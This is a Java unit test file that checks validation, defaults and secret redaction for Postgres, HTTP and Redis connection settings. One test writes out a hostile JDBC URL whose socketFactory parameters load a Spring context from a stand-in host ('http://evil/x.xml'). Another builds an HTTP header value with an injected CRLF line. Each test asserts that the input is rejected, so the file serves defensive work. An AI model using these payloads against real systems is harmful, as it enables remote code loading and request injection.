package io.spillway.connection;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;

class ConnectionTypesTest {
    @Test
    void defaultsAreApplied() {
        assertThat(new PostgresConnection("w", "jdbc:postgresql://h/db", "u", "p", null, null, null).schema())
                .isEqualTo("public");
        HttpConnection http = new HttpConnection("h", "https://x.io", null, null, null, null);
        assertThat(http.method()).isEqualTo("POST");
        assertThat(http.headers()).isEmpty();
        assertThat(http.timeoutMs()).isEqualTo(10_000);
        assertThat(new RedisConnection("r", "redis://h", null).keyPrefix()).isEqualTo("spillway:cache:");
        assertThat(new HttpConnection("h", "https://x.io", "put", null, 5, null).method()).isEqualTo("PUT");
    }

    @Test
    void validPostgresHasNoProblems() {
        assertThat(new PostgresConnection("w", "jdbc:postgresql://localhost:5432/warehouse", "u", "p", "public", null,
                null).problems()).isEmpty();
    }

    @Test
    void postgresProblemsNameTheField() {
        assertThat(new PostgresConnection("w", "jdbc:mysql://h/db", null, null, "bad schema", null, null).problems())
                .hasSize(3)
                .anyMatch(p -> p.startsWith("jdbc_url must start with"))
                .anyMatch(p -> p.startsWith("username is missing"))
                .anyMatch(p -> p.startsWith("schema 'bad schema'"));
        assertThat(new PostgresConnection("w", null, "u", null, null, null, null).problems())
                .singleElement().asString().startsWith("jdbc_url is missing");
    }

    @Test
    void driverParametersThatLoadClassesAreRejected() {
        assertThat(new PostgresConnection("w",
                "jdbc:postgresql://h/db?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                        + "&socketFactoryArg=http://evil/x.xml", "u", "p", null, null, null).problems())
                .hasSize(2).allMatch(p -> p.contains("is not allowed"));
    }

    @Test
    void httpProblems() {
        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Host", "x");
        headers.put("Bad Header", "x");
        headers.put("X-Ok", "line\r\nInjected: yes");
        assertThat(new HttpConnection("h", "ftp://x.io", "TRACE", headers, 0, null).problems())
                .anyMatch(p -> p.startsWith("url must be an absolute http"))
                .anyMatch(p -> p.startsWith("method 'TRACE'"))
                .anyMatch(p -> p.startsWith("header 'Host' is set by the HTTP client"))
                .anyMatch(p -> p.startsWith("header name 'Bad Header'"))
                .anyMatch(p -> p.startsWith("header 'X-Ok' needs a value on one line"))
                .anyMatch(p -> p.startsWith("timeout_ms must be between"));
        assertThat(new HttpConnection("h", "https://example.com/hook", "GET", Map.of("Accept", "*/*"), 100, null)
                .problems()).isEmpty();
        assertThat(new HttpConnection("h", "not a url", null, null, null, null).problems()).isNotEmpty();
    }

    @Test
    void redisProblemsNeverEchoTheUrl() {
        assertThat(new RedisConnection("r", "http://:pw-123@h", null).problems())
                .singleElement().asString().startsWith("url must be a Redis URI").doesNotContain("pw-123");
        assertThat(new RedisConnection("r", "redis://localhost:6379/0", "has space").problems())
                .singleElement().asString().startsWith("key_prefix");
        assertThat(new RedisConnection("r", "rediss://:pw@cache.example.com:6380", null).problems()).isEmpty();
    }

    @Test
    void redactedFormsHideEverySecret() {
        PostgresConnection pg = new PostgresConnection("w", "jdbc:postgresql://h/db?password=qp", "u", "pw", null,
                null, null);
        assertThat(pg.redacted().password()).isEqualTo("****");
        assertThat(pg.redacted().jdbcUrl()).isEqualTo("jdbc:postgresql://h/db?password=****");
        assertThat(pg.secretValues()).contains("qp", "pw");

        Map<String, String> headers = new LinkedHashMap<>();
        headers.put("Authorization", "Bearer tok");
        headers.put("X-API-Key", "k");
        headers.put("X-Session-Token", "t");
        headers.put("Accept", "application/json");
        HttpConnection http = new HttpConnection("h", "https://u:p@x.io/?token=q", "POST", headers, null, null);
        assertThat(http.redacted().headers()).containsExactly(Map.entry("Authorization", "****"),
                Map.entry("X-API-Key", "****"), Map.entry("X-Session-Token", "****"),
                Map.entry("Accept", "application/json"));
        assertThat(http.redacted().url()).isEqualTo("https://u:****@x.io/?token=****");
        assertThat(http.secretValues()).contains("Bearer tok", "tok", "k", "t", "p", "q");

        RedisConnection redis = new RedisConnection("r", "redis://:rp@h:6379", null);
        assertThat(redis.redacted().url()).isEqualTo("redis://:****@h:6379");
        assertThat(redis.redacted().keyPrefix()).isEqualTo("spillway:cache:");
    }

    @Test
    void idsAreRestrictedToASafeAlphabet() {
        assertThat(ConnectionIds.isValid("warehouse")).isTrue();
        assertThat(ConnectionIds.isValid("wh_2.prod-eu")).isTrue();
        assertThat(ConnectionIds.isValid("a".repeat(128))).isTrue();
        assertThat(ConnectionIds.isValid("a".repeat(129))).isFalse();
        assertThat(ConnectionIds.isValid("..")).isFalse();
        assertThat(ConnectionIds.isValid("a/b")).isFalse();
        assertThat(ConnectionIds.isValid("a b")).isFalse();
        assertThat(ConnectionIds.isValid("")).isFalse();
        assertThat(ConnectionIds.isValid(null)).isFalse();
        assertThat(ConnectionIds.problem("x:y")).contains("not valid");
        assertThat(ConnectionIds.problem(null)).contains("missing");
    }
}
